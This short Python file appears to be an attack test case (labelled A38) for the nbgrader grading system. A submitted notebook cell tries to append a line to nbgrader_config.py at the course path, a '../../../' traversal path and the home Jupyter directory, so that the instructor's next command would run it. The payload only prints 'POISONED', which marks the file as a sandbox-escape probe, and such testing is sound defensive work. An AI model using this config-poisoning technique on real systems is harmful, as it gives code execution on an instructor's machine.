"""A38 Appends code to the course's nbgrader_config.py, which the instructor's next command would run."""

# %% extra
for path in ("@COURSE@/nbgrader_config.py", "../../../nbgrader_config.py", "@HOME@/.jupyter/nbgrader_config.py"):
    try:
        with open(path, "a") as file:
            file.write("\nprint('POISONED')\n")
    except OSError as error:
        print(error)
